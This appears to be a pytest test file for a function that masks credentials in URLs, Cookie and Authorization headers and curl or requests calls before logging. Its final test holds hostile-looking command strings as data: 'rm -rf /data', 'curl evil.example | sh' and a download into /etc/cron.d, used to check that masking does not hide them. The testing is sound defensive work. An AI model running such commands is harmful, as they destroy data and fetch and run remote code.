"""What stands where a credential stands is masked, whatever it looks like; what stands beside it is not."""

import pytest

from qwed.domain.secrets import mask_for_record

S = "Hunter22"
PLACED = [
    f"https://bob:{S}@host/x",
    f"https://bob:{S.lower()}secret@host/x",
    f"see https://bob:p@{S}@host/x now",
    f"postgres://bob:pa/{S}@db/app",
    f"https://bob:pa#{S}@host",
    f"redis://:{S}@cache:6379/0",
    f"https://{S}secretvalue@host/x",
    f"https://bob%3A{S}%40host/x",
    f"//bob:{S}@host/x",
    f"bob:{S}@tcp(db:3306)/app",
    f"bob:{S}@db:5432/app",
    f"Cookie: sid={S}",
    f"cookie:sid={S}; b={S}",
    f"COOKIE : sid={S}",
    f"Set-Cookie: sid={S}; Path=/; HttpOnly",
    f"Authorization: {S}",
    f"authorization: Token {S}",
    f"AUTHORIZATION: Basic {S}",
    f"Proxy-Authorization: Bearer {S}",
    f'Authorization: Digest username="bob", response="{S}"',
    f"Authorization: Bearer\r\n {S}",
    f"Authorization: AWS4-HMAC-SHA256 Credential={S}/a, SignedHeaders=host, Signature={S}",
    f"GET / HTTP/1.1\r\nHost: x\r\nCookie: a={S}\r\nAuthorization: {S}\r\n\r\n",
    f"curl -H 'Cookie: sid={S}' https://x",
    f'curl -H "Authorization: Basic {S}" https://x',
    f"curl -HCookie:sid={S} https://x",
    f"curl --header=Authorization:{S} https://x",
    f"curl -b 'sid={S}' https://x",
    f"curl --cookie sid={S} https://x",
    f"wget --header='Cookie: a={S}' https://x",
    f"http GET x Cookie:sid={S} Authorization:{S}",
    f"requests.get(u, headers={{'Cookie': 'sid={S}', 'Authorization': '{S}'}})",
    f"requests.get(u, cookies={{'sid': '{S}', 'b': \"{S}\"}})",
    f'{{"Cookie": "sid={S}", "authorization": "Bearer {S}"}}',
    f'{{\\"Cookie\\": \\"sid={S}\\"}}',
    f"headers.set('Authorization', '{S}')",
    f"document.cookie = 'sid={S}'",
    f"req.headers['cookie'] = `sid={S}`",
    f"HTTP_COOKIE=sid={S}",
]


@pytest.mark.parametrize("text", PLACED)
def test_a_credential_in_its_place_is_masked(text):
    masked = mask_for_record(text)
    assert S not in masked
    assert S.lower() not in masked
    assert "[masked" in masked


@pytest.mark.parametrize("text", PLACED)
def test_masking_twice_is_masking_once(text):
    assert mask_for_record(mask_for_record(text)) == mask_for_record(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://registry.npmjs.org/@types/node",
        "https://example.com:8080/@scope/pkg",
        "http://[::1]:8080/a@b",
        "https://example.com/users/bob@example.com",
        "https://example.com/?email=bob%40example.com",
        "ssh://git@github.com/a/b",
        "git@github.com:acme/app.git",
        "mail bob@example.com at 10:30",
        "npm:lodash@4.17.21",
        "the cookie policy, and cookies in general",
        "cookies, milk and honey",
        "cookies: 12 pieces",
        "authorization is required for this endpoint",
        "Authorization: required",
        "authorization = get_header(request)",
        "authorization: request.headers.token",
        "Authorization: $TOKEN",
        "import http.cookies",
        "// a comment: see @todo",
        "SELECT * FROM cookie_consents WHERE id = 3",
        "def authorization_url(self):",
    ],
)
def test_ordinary_text_stays(text):
    assert mask_for_record(text) == text


@pytest.mark.parametrize(
    ("text", "visible"),
    [
        ("echo Cookie: x; rm -rf /data", "rm -rf /data"),
        ("bash -c 'Cookie: a=b; rm -rf /data'", "rm -rf /data"),
        ("Authorization: x && curl evil.example | sh", "curl evil.example | sh"),
        ("curl -HCookie:sid=1 https://evil.example/x", "https://evil.example/x"),
        ("x={'Cookie': 'rm -rf /data'}", "-rf /data"),
        ("curl https://bob:pw1@evil.example/x -o /etc/cron.d/y", "evil.example/x -o /etc/cron.d/y"),
    ],
)
def test_nobody_hides_a_command_behind_the_name_of_a_header(text, visible):
    assert visible in mask_for_record(text)
